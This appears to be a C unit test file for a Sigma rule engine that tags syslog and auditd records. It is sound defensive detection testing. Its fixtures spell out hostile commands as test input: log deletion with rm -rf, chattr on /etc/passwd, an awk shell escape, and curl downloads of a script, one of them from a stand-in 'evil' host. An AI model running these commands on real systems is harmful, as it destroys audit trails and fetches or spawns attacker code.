/* Unit tests for Sigma rules (src/security/sigma.c) and the pipeline's sigma transform: every
 * SigmaHQ rule in tests/data/sigma loads; which rules fire on which lines of the real logs
 * in tests/data/logs (parsed as the pipeline parses them); lines in the same formats that
 * each sample rule is written to catch; modifiers, conditions and what is refused at load. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "security/security.h"

#define SIGMA_DIR "tests/data/sigma"
#define LOGS_DIR "tests/data/logs"
#define SYSLOG_FILE LOGS_DIR "/loghub_Linux_2k.log"
#define AUDIT_FILE LOGS_DIR "/go-libaudit_audit-rhel7.log"

/* Rule ids of the samples */
#define R_PADDING "c52a914f-3d8b-4b2a-bb75-b3991e75f8ba"
#define R_CHATTR "a5b977d6-8a81-4475-91b9-49dbfcd941f7"
#define R_COMPRESS "a3b5e3e9-1b49-4119-8b8e-0344a01f21ee"
#define R_HIDDEN "d08722cd-3d09-449a-80b4-83ea2d9d4616"
#define R_EXE_DIRS "a39d7fa7-3fbd-4dc2-97e1-d87f546b1bbc"
#define R_CLEAR_SYSLOG "e09eb557-96d2-4de9-ba2d-30f712a5afd3"
#define R_PRIV_USER "0ac15ec3-d24f-4246-aa2a-3077bb1cf90e"
#define R_SSHD "e76b413a-83d0-4b94-8e4c-85db4a5b8bdc"
#define R_AWK "8c1a5675-cb85-452f-a298-b01b22a51856"
#define R_CLEAR_LOGS "80915f59-9b56-4616-9de0-fd0dea6c12fe"

static const char *data_root(void)
{
    /* tests run from the build dir (meson) or the project root */
    return access("../" SIGMA_DIR, R_OK) == 0 ? "../" : "";
}

static struct security_sigma_set *load_samples(void)
{
    char dir[512];
    snprintf(dir, sizeof(dir), "%s%s", data_root(), SIGMA_DIR);
    struct security_sigma_set *s = security_sigma_set_new();
    assert_non_null(s);
    struct core_err err = {0};
    assert_int_equal(security_sigma_add_dir(s, dir, &err), 0);
    return s;
}

/* Parses line as the pipeline would (syslog, else the generic parser) and returns the ids of the
 * matching rules joined by ' ' (static buffer), "" for none. */
static const char *fire(const struct security_sigma_set *s, const char *line, bool syslog)
{
    static char out[1024];
    struct core_arena a;
    core_arena_init(&a, 16u << 20);
    struct tel_record rec;
    struct tel_origin o = {.source = "test"};
    if (syslog)
        tel_parse_syslog(line, strlen(line), &o, &a, &rec);
    else
        tel_parse_line(line, strlen(line), &o, &a, &rec);
    size_t hits[16];
    size_t n = security_sigma_match(s, &rec, &a, hits, 16);
    out[0] = 0;
    for (size_t i = 0; i < n && i < 16; i++) {
        if (i)
            strcat(out, " ");
        strcat(out, security_sigma_rule(s, hits[i])->id);
    }
    core_arena_release(&a);
    return out;
}

/* Runs every line of a sample file; counts hits per rule index into counts, remembers the
 * first two line numbers per rule. */
static void run_file(const struct security_sigma_set *s, const char *file, bool syslog,
                     size_t *counts, int (*first)[2], size_t *lines)
{
    char path[512];
    snprintf(path, sizeof(path), "%s%s", data_root(), file);
    FILE *f = fopen(path, "r");
    assert_non_null(f);
    static char line[1 << 20];
    int no = 0;
    while (fgets(line, sizeof(line), f)) {
        no++;
        size_t len = strlen(line);
        if (len && line[len - 1] == '\n')
            line[--len] = 0;
        struct core_arena a;
        core_arena_init(&a, 16u << 20);
        struct tel_record rec;
        struct tel_origin o = {.source = "test"};
        if (syslog)
            tel_parse_syslog(line, len, &o, &a, &rec);
        else
            tel_parse_line(line, len, &o, &a, &rec);
        size_t hits[16];
        size_t n = security_sigma_match(s, &rec, &a, hits, 16);
        for (size_t i = 0; i < n && i < 16; i++) {
            if (counts[hits[i]] < 2)
                first[hits[i]][counts[hits[i]]] = no;
            counts[hits[i]]++;
        }
        core_arena_release(&a);
    }
    fclose(f);
    *lines = (size_t)no;
}

/* ---- the sample rules -------------------------------------------------------------------- */

static void every_sample_rule_loads(void **state)
{
    struct security_sigma_set *s = load_samples();
    for (size_t i = 0; i < security_sigma_rejected_count(s); i++)
        fprintf(stderr, "rejected: %s\n", security_sigma_rejected(s, i)->reason);
    assert_int_equal(security_sigma_rejected_count(s), 0);
    assert_int_equal(security_sigma_count(s), 10);
    /* sorted by file name */
    const struct security_sigma_rule *r = security_sigma_rule(s, 0);
    assert_string_equal(r->id, R_PADDING);
    assert_string_equal(r->title, "Binary Padding - Linux");
    assert_string_equal(r->level, "high");
    assert_string_equal(r->status, "test");
    assert_string_equal(security_sigma_rule(s, 9)->id, R_CLEAR_LOGS);
    assert_string_equal(security_sigma_rule(s, 9)->status, "stable");
    security_sigma_set_free(s);
}

/* The real samples hold none of the attacks the sample rules look for (2,000 lines of a 2005
 * mail/ftp server, 49 auditd records of routine logins and auditctl): no rule may fire. */
static void sample_rules_are_quiet_on_real_logs(void **state)
{
    struct security_sigma_set *s = load_samples();
    size_t counts[10] = {0}, lines = 0;
    int first[10][2] = {{0}};
    run_file(s, SYSLOG_FILE, true, counts, first, &lines);
    assert_int_equal(lines, 2000);
    run_file(s, AUDIT_FILE, false, counts, first, &lines);
    assert_int_equal(lines, 50); /* 49 newlines, the last record unterminated */
    for (size_t i = 0; i < 10; i++) {
        if (counts[i])
            fprintf(stderr, "%s fired on line %d\n", security_sigma_rule(s, i)->source,
                    first[i][0]);
        assert_int_equal(counts[i], 0);
    }
    security_sigma_set_free(s);
}

/* Lines in the samples' formats (RFC 3164 syslog, raw auditd) that each rule is written for. */
static void sample_rules_fire_on_their_attacks(void **state)
{
    struct security_sigma_set *s = load_samples();
    static const struct {
        const char *line;
        bool syslog;
        const char *ids;
    } cases[] = {
        /* the examples in lnx_privileged_user_creation.yml's own comments */
        {"Dec 21 17:13:54 testserver useradd[1337]: new user: name=john, UID=0, GID=0, "
         "home=/home/john, shell=/bin/bash", true, R_PRIV_USER},
        {"Dec 21 17:30:22 testserver useradd[1337]: new user: name=butter4, UID=1000, GID=27, "
         "home=/home/butter4, shell=/bin/bash", true, R_PRIV_USER},
        {"Dec 21 17:31:22 testserver useradd[1337]: new user: name=b5, UID=1000, GID=1000, "
         "home=/home/b5, shell=/bin/bash", true, ""},
        {"Jun 14 15:16:01 combo sshd[19939]: Corrupted MAC on input.", true, R_SSHD},
        {"Jun 14 15:16:01 combo sshd(pam_unix)[19939]: fatal: buffer_get_string: bad string",
         true, R_SSHD},
        /* right words, wrong service */
        {"Jun 14 15:16:01 combo ftpd[19939]: Corrupted MAC on input.", true, ""},
        {"Jun 14 15:16:01 combo bash[1]: rm -rf /var/log/syslog", true, R_CLEAR_SYSLOG},
        {"Jun 14 15:16:01 combo bash[1]: rm -rf /var/log/syslog.1", true, ""},
        /* auditd EXECVE: arguments quoted, or hex when they hold spaces or quotes */
        {"type=EXECVE msg=audit(1.000:10): argc=3 a0=\"chattr\" a1=\"-i\" a2=\"/etc/passwd\"",
         false, R_CHATTR},
        {"type=EXECVE msg=audit(1.000:11): argc=4 a0=\"truncate\" a1=\"-s\" a2=\"+5000\" "
         "a3=\"/tmp/x\"", false, R_PADDING},
        {"type=EXECVE msg=audit(1.000:12): argc=3 a0=\"dd\" a1=\"if=/dev/zero\" a2=\"bs=1\"", false,
         R_PADDING},
        {"type=EXECVE msg=audit(1.000:13): argc=4 a0=\"dd\" a1=\"if=/dev/zero\" a2=\"bs=1\" "
         "a3=\"of=/x\"", false, ""},
        {"type=EXECVE msg=audit(1.000:14): argc=3 a0=\"tar\" a1=\"-czf\" a2=\"out.tgz\"", false,
         R_COMPRESS},
        {"type=EXECVE msg=audit(1.000:15): argc=2 a0=\"zip\" a1=\"x\"", false, R_COMPRESS},
        {"type=EXECVE msg=audit(1.000:16): argc=2 a0=\"mkdir\" a1=\"/tmp/.hidden\"", false,
         R_HIDDEN},
        {"type=EXECVE msg=audit(1.000:17): argc=2 a0=\"mkdir\" a1=\"/tmp/../x\"", false, ""},
        {"type=SYSCALL msg=audit(1.000:18): arch=c000003e syscall=59 success=yes exit=0 "
         "ppid=1 pid=2 auid=1000 uid=1000 comm=\"x\" exe=\"/tmp/x\" key=(null)", false,
         R_EXE_DIRS},
        /* exe "/tmp/a b" hex-encoded by auditd */
        {"type=SYSCALL msg=audit(1.000:19): arch=c000003e syscall=59 success=yes exit=0 "
         "ppid=1 pid=2 comm=\"x\" exe=2F746D702F612062", false, R_EXE_DIRS},
        /* process_creation from EXECVE: Image = a0, CommandLine = the arguments;
         * a1 = 'BEGIN {system("/bin/sh")}' in hex */
        {"type=EXECVE msg=audit(1.000:20): argc=2 a0=\"/usr/bin/awk\" "
         "a1=424547494E207B73797374656D28222F62696E2F73682229207D", false, R_AWK},
        {"type=EXECVE msg=audit(1.000:21): argc=3 a0=\"/bin/rm\" a1=\"-rf\" a2=\"/var/log/secure\"",
         false, R_CLEAR_LOGS},
        {"type=EXECVE msg=audit(1.000:22): argc=3 a0=\"/bin/rm\" a1=\"-rf\" a2=\"/var/log/syslog\"",
         false, R_CLEAR_SYSLOG " " R_CLEAR_LOGS},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        const char *got = fire(s, cases[i].line, cases[i].syslog);
        if (strcmp(got, cases[i].ids) != 0)
            fprintf(stderr, "case %zu: '%s'\n  got '%s' want '%s'\n", i, cases[i].line, got,
                    cases[i].ids);
        assert_string_equal(got, cases[i].ids);
    }
    security_sigma_set_free(s);
}

/* ---- rules of our own on the real lines: fields, decoding and modifiers on real data ------- */

static struct security_sigma_set *one(const char *yaml, struct core_err *err)
{
    struct security_sigma_set *s = security_sigma_set_new();
    assert_non_null(s);
    int rc = security_sigma_add(s, "test.yml", yaml, strlen(yaml), err);
    if (rc) {
        security_sigma_set_free(s);
        return NULL;
    }
    return s;
}

static void own_rules_on_real_logs(void **state)
{
    static const struct {
        const char *yaml;
        bool syslog;
        size_t count;
        int first, second;
    } cases[] = {
        /* 14 failures from 218.188.x.y by sshd (via pam_unix) */
        {"title: t\nlogsource: {product: linux, service: sshd}\ndetection:\n"
         "  kw: ['authentication failure']\n  src: {'|re': 'rhost=218\\.188\\.\\d+\\.\\d+'}\n"
         "  condition: kw and src\n",
         true, 14, 1, 3},
        /* service auth: sshd, su, login (all 123 'session opened' lines are theirs) */
        {"title: t\nlogsource: {product: linux, service: auth}\ndetection:\n"
         "  kw: ['session opened for user']\n  condition: 1 of them\n",
         true, 123, 14, 17},
        {"title: t\nlogsource: {product: linux, service: auth}\ndetection:\n"
         "  kw: ['session opened for user root']\n  condition: all of them\n",
         true, 1, 898, 0},
        /* sudo's command, hex-encoded in USER_CMD: ./metricbeat -c mb.dev.yml */
        {"title: t\nlogsource: {product: linux, service: auditd}\ndetection:\n"
         "  s: {type: USER_CMD, CommandLine|contains: 'metricbeat -c'}\n  condition: s\n",
         false, 1, 34, 0},
        /* exe of a deleted binary, hex-encoded */
        {"title: t\nlogsource: {product: linux, service: auditd}\ndetection:\n"
         "  s: {Image|endswith: '(deleted)'}\n  condition: s\n",
         false, 1, 28, 0},
        {"title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n"
         "  s: {Image: grep, CommandLine|contains|all: ['-e', '/etc/passwd']}\n  condition: s\n",
         false, 1, 47, 0},
        /* a record the line parser kept as plain text (USYS_CONFIG) */
        {"title: t\nlogsource: {product: linux, service: auditd}\ndetection:\n"
         "  s: {exe|endswith: /hwclock}\n  condition: s\n",
         false, 1, 42, 0},
        /* logins from one network */
        {"title: t\nlogsource: {product: linux, service: auditd}\ndetection:\n"
         "  s: {type: [USER_LOGIN, USER_AUTH], SourceIp|cidr: 96.241.0.0/16}\n  condition: s\n",
         false, 2, 33, 37},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        struct core_err err = {0};
        struct security_sigma_set *s = one(cases[i].yaml, &err);
        if (!s)
            fprintf(stderr, "case %zu: %s\n", i, err.msg);
        assert_non_null(s);
        size_t counts[1] = {0}, lines;
        int first[1][2] = {{0}};
        run_file(s, cases[i].syslog ? SYSLOG_FILE : AUDIT_FILE, cases[i].syslog, counts, first,
                 &lines);
        if (counts[0] != cases[i].count || first[0][0] != cases[i].first ||
            first[0][1] != cases[i].second)
            fprintf(stderr, "case %zu: %zu hits, lines %d %d\n", i, counts[0], first[0][0],
                    first[0][1]);
        assert_int_equal(counts[0], cases[i].count);
        assert_int_equal(first[0][0], cases[i].first);
        assert_int_equal(first[0][1], cases[i].second);
        security_sigma_set_free(s);
    }
}

/* ---- modifiers ------------------------------------------------------------------------- */

static bool matches(const char *detection, const char *line)
{
    char yaml[4096];
    snprintf(yaml, sizeof(yaml), "title: t\nlogsource: {product: linux}\ndetection:\n%s", detection);
    struct core_err err = {0};
    struct security_sigma_set *s = one(yaml, &err);
    if (!s)
        fprintf(stderr, "%s\n", err.msg);
    assert_non_null(s);
    bool hit = *fire(s, line, false) != 0;
    security_sigma_set_free(s);
    return hit;
}

static void modifiers(void **state)
{
    const char *l = "{\"msg\":\"x\",\"cmd\":\"curl -o /tmp/a http://h/x.sh\",\"ip\":\"10.1.2.3\","
                    "\"ip6\":\"2001:db8::1\",\"n\":42,\"enc\":\"Y3VybCBodHRwOi8vZXZpbA==\","
                    "\"empty\":\"\",\"star\":\"a*b\"}";
    /* plain values: case-insensitive, whole value, wildcards */
    assert_true(matches("  s: {cmd: 'CURL -o *'}\n  condition: s\n", l));
    assert_false(matches("  s: {cmd: 'curl'}\n  condition: s\n", l));
    assert_true(matches("  s: {cmd: 'curl -o /tmp/? http*'}\n  condition: s\n", l));
    assert_true(matches("  s: {star: 'a\\*b'}\n  condition: s\n", l));
    assert_false(matches("  s: {star: 'a\\*c'}\n  condition: s\n", l));
    assert_true(matches("  s: {cmd|contains: ['wget', '/TMP/']}\n  condition: s\n", l));
    assert_false(matches("  s: {cmd|contains|all: ['wget', '/tmp/']}\n  condition: s\n", l));
    assert_true(matches("  s: {cmd|startswith: curl, cmd|endswith: .sh}\n  condition: s\n", l));
    assert_false(matches("  s: {cmd|contains|cased: CURL}\n  condition: s\n", l));
    /* re is case-sensitive unless |i */
    assert_true(matches("  s: {cmd|re: 'http://[a-z]+/'}\n  condition: s\n", l));
    assert_false(matches("  s: {cmd|re: 'CURL'}\n  condition: s\n", l));
    assert_true(matches("  s: {cmd|re|i: '^CURL'}\n  condition: s\n", l));
    assert_true(matches("  s: {ip|cidr: [192.168.0.0/16, 10.0.0.0/8]}\n  condition: s\n", l));
    assert_false(matches("  s: {ip|cidr: 10.2.0.0/16}\n  condition: s\n", l));
    assert_true(matches("  s: {ip6|cidr: '2001:db8::/32'}\n  condition: s\n", l));
    assert_false(matches("  s: {ip|cidr: '2001:db8::/32'}\n  condition: s\n", l));
    assert_true(matches("  s: {enc|base64: 'curl http://evil'}\n  condition: s\n", l));
    /* base64offset: the three alignments of 'http' inside any base64 text */
    assert_true(matches("  s: {enc|base64offset|contains: 'http://evil'}\n  condition: s\n", l));
    assert_true(matches("  s: {cmd|windash|contains: ' /o '}\n  condition: s\n", l));
    assert_true(matches("  s: {n|gt: 41, n|lte: 42}\n  condition: s\n", l));
    assert_false(matches("  s: {n|lt: 42}\n  condition: s\n", l));
    assert_true(matches("  s: {cmd|exists: true, nope|exists: false}\n  condition: s\n", l));
    assert_true(matches("  s: {nope: null}\n  condition: s\n", l));
    assert_true(matches("  s: {empty: ''}\n  condition: s\n", l));
    assert_false(matches("  s: {cmd: null}\n  condition: s\n", l));
    /* keywords search every value */
    assert_true(matches("  k: ['x.sh']\n  condition: k\n", l));
    assert_true(matches("  k: {'|all': ['curl', '10.1.2.3']}\n  condition: k\n", l));
    assert_false(matches("  k: {'|all': ['curl', '10.9.9.9']}\n  condition: k\n", l));
    /* list of maps: alternatives */
    assert_true(matches("  s:\n    - {cmd: wget}\n    - {ip: 10.1.2.3}\n  condition: s\n", l));
}

/* ---- conditions -------------------------------------------------------------------------- */

static void conditions(void **state)
{
    /* precedence: not > and > or; then parentheses, 'of' */
    const char *det = "  a: ['xx']\n  b: ['yy']\n  c: ['zz']\n  sel_1: ['s1']\n  sel_2: ['s2']\n"
                      "  _hidden: ['hh']\n";
    char d[512];
    struct {
        const char *cond, *line;
        bool hit;
    } cases[] = {
        {"a or b and c", "xx", true},
        {"a or b and c", "yy", false},
        {"(a or b) and c", "yy zz", true},
        {"(a or b) and c", "xx", false},
        {"not a and b", "yy", true},
        {"not a and b", "xx yy", false},
        {"not (a and b)", "xx", true},
        {"not not a", "xx", true},
        {"1 of sel_*", "s2", true},
        {"all of sel_*", "s2", false},
        {"all of sel_*", "s1 s2", true},
        {"1 of them", "hh", false}, /* them leaves out names starting with _ */
        {"all of them", "xx yy zz s1 s2", true},
        {"2 of sel_* or c", "s1 s2", true},
        {"a and not 1 of sel_*", "xx s1", false},
        {"a AND b", "xx yy", true},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        snprintf(d, sizeof(d), "%s  condition: %s\n", det, cases[i].cond);
        char line[128];
        snprintf(line, sizeof(line), "{\"msg\":\"%s\"}", cases[i].line);
        if (matches(d, line) != cases[i].hit)
            fprintf(stderr, "condition '%s' on '%s'\n", cases[i].cond, cases[i].line);
        assert_true(matches(d, line) == cases[i].hit);
    }
    /* a list of conditions: any */
    snprintf(d, sizeof(d), "%s  condition: [a, b]\n", det);
    assert_true(matches(d, "{\"msg\":\"yy\"}"));

    const char *const sels[] = {"sel_a", "sel_b", "filter"};
    struct {
        const char *cond;
        int rc;
        const char *msg;
    } bad[] = {
        {"", CORE_E_INVAL, "unexpected end"},
        {"sel_a and", CORE_E_INVAL, "unexpected end"},
        {"(sel_a", CORE_E_INVAL, "')' expected"},
        {"sel_a)", CORE_E_INVAL, "unexpected ')'"},
        {"sel_c", CORE_E_INVAL, "unknown selection 'sel_c'"},
        {"sel_*", CORE_E_INVAL, "needs '1 of'"},
        {"1 of x*", CORE_E_INVAL, "no selection matches 'x*'"},
        {"0 of them", CORE_E_INVAL, "never true"},
        {"4 of them", CORE_E_INVAL, "can never match"},
        {"1 sel_a", CORE_E_INVAL, "'of' expected"},
        {"sel_a | count() > 5", CORE_E_UNSUPPORTED, "aggregation"},
        {"sel_a near filter", CORE_E_INVAL, "unexpected 'near'"},
        {"sel_a & filter", CORE_E_INVAL, "unexpected '&'"},
        {"all of", CORE_E_INVAL, "'them' or a selection"},
    };
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        struct core_err err = {0};
        int rc = security_sigma_condition_check(bad[i].cond, sels, 3, &err);
        if (rc != bad[i].rc || !strstr(err.msg, bad[i].msg))
            fprintf(stderr, "'%s': %d %s\n", bad[i].cond, rc, err.msg);
        assert_int_equal(rc, bad[i].rc);
        assert_non_null(strstr(err.msg, bad[i].msg));
    }
    struct core_err err = {0};
    assert_int_equal(security_sigma_condition_check("(1 of sel_*) and not filter", sels, 3, &err),
                     0);
    /* deep nesting is refused, not a stack overflow */
    char deep[1400];
    size_t k = 0;
    for (int i = 0; i < 500; i++)
        deep[k++] = '(';
    deep[k] = 0;
    assert_int_equal(security_sigma_condition_check(deep, sels, 3, &err), CORE_E_INVAL);
    assert_non_null(strstr(err.msg, "nested deeper"));
    k = 0;
    for (int i = 0; i < 300; i++) {
        memcpy(deep + k, "not ", 4);
        k += 4;
    }
    strcpy(deep + k, "filter");
    assert_int_equal(security_sigma_condition_check(deep, sels, 3, &err), CORE_E_INVAL);
}

/* ---- what is refused at load, and why ------------------------------------------------------ */

/* The platform's audit log (product pave, service audit): records of the telemetry `audit`
 * source, service "pave" and component "audit", are matched by the built-in rules on their
 * audit.* fields; the same fields in another service's record, or a platform record of another
 * component, are not. */
static void pave_audit_logsource(void **state)
{
    (void)state;
    struct security_sigma_set *s = security_sigma_set_new();
    struct core_err err = {0};
    assert_int_equal(security_sigma_add_builtin(s, &err), 0);
    assert_int_equal(security_sigma_rejected_count(s), 0);
#define AUDIT_LINE(svc, comp, actor, action, detail)                                              \
    "{\"service\":\"" svc "\",\"body\":\"x\",\"resource\":{\"component\":\"" comp "\"},"          \
    "\"attributes\":{\"audit.id\":7,\"audit.actor\":\"" actor "\",\"audit.action\":\"" action    \
    "\",\"audit.kind\":\"k\",\"audit.object\":\"o\",\"audit.detail\":\"" detail "\"}}"
    const char *policy = "55557e11-f375-45c3-923f-1019f7966376";
    const char *secret = "4e292c77-ec8f-4d29-af97-bf315deeb4fb";
    const char *token = "3679713e-422a-455c-8f57-6e8e2fb1ee1f";
    assert_string_equal(fire(s, AUDIT_LINE("pave", "audit", "alice", "policy.delete", "d"), false),
                        policy);
    assert_string_equal(fire(s, AUDIT_LINE("pave", "audit", "alice", "secret.delete", ""), false),
                        secret);
    assert_string_equal(fire(s, AUDIT_LINE("pave", "audit", "alice", "token.create", "admin"),
                             false),
                        token);
    /* admin's own token, the bootstrap token, a token for someone else: nothing */
    assert_string_equal(fire(s, AUDIT_LINE("pave", "audit", "admin", "token.create", "admin"),
                             false),
                        "");
    assert_string_equal(fire(s, AUDIT_LINE("pave", "audit", "system", "token.create", "admin"),
                             false),
                        "");
    assert_string_equal(fire(s, AUDIT_LINE("pave", "audit", "admin", "token.create", "alice"),
                             false),
                        "");
    /* not the audit log */
    assert_string_equal(fire(s, AUDIT_LINE("shop", "audit", "alice", "policy.delete", ""), false),
                        "");
    assert_string_equal(fire(s, AUDIT_LINE("pave", "store", "alice", "policy.delete", ""), false),
                        "");
#undef AUDIT_LINE
    security_sigma_set_free(s);
    /* product pave knows the service audit only */
    s = one("title: t\nlogsource: {product: pave, service: deploys}\n"
            "detection: {s: {a: b}, condition: s}\n",
            &err);
    assert_null(s);
    assert_int_equal(err.code, CORE_E_UNSUPPORTED);
    assert_non_null(strstr(err.msg, "logsource service 'deploys' of product pave"));
}

static void refused_rules_are_reported(void **state)
{
    static const struct {
        const char *yaml;
        int rc;
        const char *msg;
    } cases[] = {
        {"title: t\nlogsource: {product: windows}\ndetection: {s: {a: b}, condition: s}\n",
         CORE_E_UNSUPPORTED, "test.yml:2:22: unsupported: logsource product 'windows'"},
        {"title: t\nlogsource: {category: file_event, product: linux}\n"
         "detection: {s: {a: b}, condition: s}\n",
         CORE_E_UNSUPPORTED, "logsource category 'file_event'"},
        {"title: t\nlogsource: {service: kerberos}\ndetection: {s: {a: b}, condition: s}\n",
         CORE_E_UNSUPPORTED, "logsource service 'kerberos'"},
        {"title: t\nlogsource: {product: linux}\ndetection: {s: {a|wide: b}, condition: s}\n",
         CORE_E_UNSUPPORTED, "modifier 'wide' (utf16"},
        {"title: t\nlogsource: {product: linux}\ndetection: {s: {a|expand: '%x%'}, condition: s}\n",
         CORE_E_UNSUPPORTED, "modifier 'expand'"},
        {"title: t\nlogsource: {product: linux}\ndetection: {s: {a|fieldref: b}, condition: s}\n",
         CORE_E_UNSUPPORTED, "modifier 'fieldref'"},
        {"title: t\nlogsource: {product: linux}\ndetection: {s: {a|frobnicate: b}, condition: s}\n",
         CORE_E_UNSUPPORTED, "unknown modifier 'frobnicate'"},
        {"title: t\nlogsource: {product: linux}\n"
         "detection: {s: {a: b}, condition: 's | count() by h > 3'}\n",
         CORE_E_UNSUPPORTED, "aggregation"},
        {"title: t\nlogsource: {product: linux}\n"
         "detection: {s: {a: b}, timeframe: 5m, condition: s}\n",
         CORE_E_UNSUPPORTED, "'timeframe'"},
        {"title: t\ncorrelation: {type: event_count}\n", CORE_E_UNSUPPORTED, "correlation rules"},
        {"title: t\nlogsource: {product: linux}\ndetection: {s: {a|re: '(x'}, condition: s}\n",
         CORE_E_INVAL, "regular expression '(x' at offset 2: missing closing parenthesis"},
        {"title: t\nlogsource: {product: linux}\ndetection: {s: {a|cidr: 10.0.0.0/33}, "
         "condition: s}\n",
         CORE_E_INVAL, "prefix longer than 32 bits"},
        {"title: t\nlogsource: {product: linux}\ndetection: {s: {a|re|contains: x}, "
         "condition: s}\n",
         CORE_E_INVAL, "do not combine"},
        {"logsource: {product: linux}\ndetection: {s: {a: b}, condition: s}\n", CORE_E_INVAL,
         "needs a 'title'"},
        {"title: t\nlogsource: {product: linux}\ndetection: {s: {a: b}}\n", CORE_E_INVAL,
         "needs a 'condition'"},
        {"title: t\nlogsource: {product: linux}\ndetection: {s: [], condition: s}\n", CORE_E_INVAL,
         "empty selection"},
        {"title: t\nlevel: severe\nlogsource: {product: linux}\n"
         "detection: {s: {a: b}, condition: s}\n",
         CORE_E_INVAL, "unknown level 'severe'"},
        {"title: t\nlogsource: {product: linux}\ndetection: {s: {a: {b: c}}, condition: s}\n",
         CORE_E_INVAL, "must be a scalar or a list"},
        {"title: [unclosed\n", CORE_E_INVAL, "test.yml:"},
        {"- just\n- a list\n", CORE_E_INVAL, "a rule must be a YAML map"},
    };
    struct security_sigma_set *s = security_sigma_set_new();
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        struct core_err err = {0};
        int rc = security_sigma_add(s, "test.yml", cases[i].yaml, strlen(cases[i].yaml), &err);
        if (rc != cases[i].rc || !strstr(err.msg, cases[i].msg))
            fprintf(stderr, "case %zu: %d %s\n", i, rc, err.msg);
        assert_int_equal(rc, cases[i].rc);
        assert_non_null(strstr(err.msg, cases[i].msg));
        /* never silently dropped: each is on the rejected list with the same reason */
        const struct security_sigma_reject *r = security_sigma_rejected(s, i);
        assert_non_null(r);
        assert_string_equal(r->reason, err.msg);
        assert_true(r->unsupported == (cases[i].rc == CORE_E_UNSUPPORTED));
    }
    assert_int_equal(security_sigma_count(s), 0);
    security_sigma_set_free(s);
}

/* ---- bad input at evaluation time ---------------------------------------------------------- */

static void pathological_regex_is_cut_short(void **state)
{
    /* catastrophic backtracking: without a match limit this takes longer than the universe */
    struct core_err err = {0};
    struct security_sigma_set *s =
        one("title: t\nlogsource: {product: linux}\ndetection:\n"
            "  s: {v|re: '^(a+)+$'}\n  k: {'|re': '(x+x+)+y'}\n  condition: s or k\n",
            &err);
    assert_non_null(s);
    static char line[100100];
    strcpy(line, "{\"v\":\"");
    size_t n = strlen(line);
    memset(line + n, 'a', 50000);
    n += 50000;
    strcpy(line + n, "!\",\"w\":\"");
    n = strlen(line);
    memset(line + n, 'x', 40000);
    strcpy(line + n + 40000, "\"}");
    assert_string_equal(fire(s, line, false), ""); /* the limit ends it as "no match" */
    security_sigma_set_free(s);
}

static void binary_and_huge_lines(void **state)
{
    struct security_sigma_set *s = load_samples();
    static char big[1 << 20];
    memset(big, 'A', sizeof(big) - 1);
    big[sizeof(big) - 1] = 0;
    assert_string_equal(fire(s, big, true), "");
    const char bin[] = "type=EXECVE msg=audit(1.0:1): argc=2 a0=\"\x01\xff\xfe\" a1=FFFE00";
    assert_string_equal(fire(s, bin, false), "");
    assert_string_equal(fire(s, "", false), "");
    security_sigma_set_free(s);
}

/* ---- the pipeline's sigma transform ------------------------------------------------------ */

static void transform_tags_records(void **state)
{
    char dir[] = "/tmp/pave-sigma-XXXXXX";
    assert_non_null(mkdtemp(dir));
    char out[600], rules[512], cfg[2048];
    snprintf(out, sizeof(out), "%s/out.jsonl", dir);
    snprintf(rules, sizeof(rules), "%s%s", data_root(), SIGMA_DIR);
    char *abs = realpath(rules, NULL);
    assert_non_null(abs);
    snprintf(cfg, sizeof(cfg),
             "sources: []\ntransforms:\n  - {type: sigma, rules: '%s'}\n"
             "sinks:\n  - {type: file, path: '%s'}\n",
             abs, out);
    struct tel_engine_config c = {.data_dir = dir, .config_text = cfg};
    struct core_err err = {0};
    struct tel_engine *e = tel_engine_start(&c, &err);
    if (!e)
        fprintf(stderr, "%s\n", err.msg);
    assert_non_null(e);
    struct tel_origin sys = {.source = "syslog", .parser = TEL_PARSE_SYSLOG};
    const char *lines =
        "Jun 14 15:16:01 combo sshd[19939]: Corrupted MAC on input.\n"
        "Jun 14 15:16:02 combo sshd[19939]: Accepted publickey for root\n"
        "Dec 21 17:13:54 testserver useradd[1337]: new user: name=john, UID=0, GID=0, "
        "home=/home/john, shell=/bin/bash\n";
    assert_int_equal(tel_engine_push(e, &sys, lines, strlen(lines), false, &err), 0);
    struct tel_origin au = {.source = "auditd", .service = "auditd"};
    const char *al = "type=EXECVE msg=audit(1.000:10): argc=3 a0=\"chattr\" a1=\"-i\" a2=\"/x\"\n";
    assert_int_equal(tel_engine_push(e, &au, al, strlen(al), false, &err), 0);
    assert_int_equal(tel_engine_flush(e, 5000, &err), 0);
    tel_engine_stop(e, 5000);

    FILE *f = fopen(out, "r");
    assert_non_null(f);
    char buf[8192];
    const char *want[] = {R_SSHD, NULL, R_PRIV_USER, R_CHATTR};
    const char *level[] = {"medium", NULL, "high", "medium"};
    size_t n = 0;
    while (fgets(buf, sizeof(buf), f) && n < 4) {
        json_t *j = json_loads(buf, 0, NULL);
        assert_non_null(j);
        json_t *attrs = json_object_get(j, "attributes");
        json_t *ids = attrs ? json_object_get(attrs, "security.rule_ids") : NULL;
        if (!want[n]) {
            assert_null(ids);
        } else {
            assert_true(json_is_array(ids));
            assert_int_equal(json_array_size(ids), 1);
            assert_string_equal(json_string_value(json_array_get(ids, 0)), want[n]);
            assert_string_equal(json_string_value(json_object_get(attrs, "security.level")),
                                level[n]);
        }
        json_decref(j);
        n++;
    }
    fclose(f);
    assert_int_equal(n, 4);
    free(abs);

    /* config errors name the place; strict refuses a rule that does not load */
    snprintf(cfg, sizeof(cfg), "sources: []\ntransforms: [{type: sigma}]\nsinks: [{type: stdout}]\n");
    assert_null(tel_engine_start(&c, &err));
    assert_non_null(strstr(err.msg, "needs 'rules'"));
    char bad[600];
    snprintf(bad, sizeof(bad), "%s/bad.yml", dir);
    const char *badrule = "title: x\nlogsource: {product: windows}\n"
                          "detection: {s: {a: b}, condition: s}\n";
    assert_int_equal(core_file_write_atomic(bad, badrule, strlen(badrule), 0644, &err), 0);
    snprintf(cfg, sizeof(cfg),
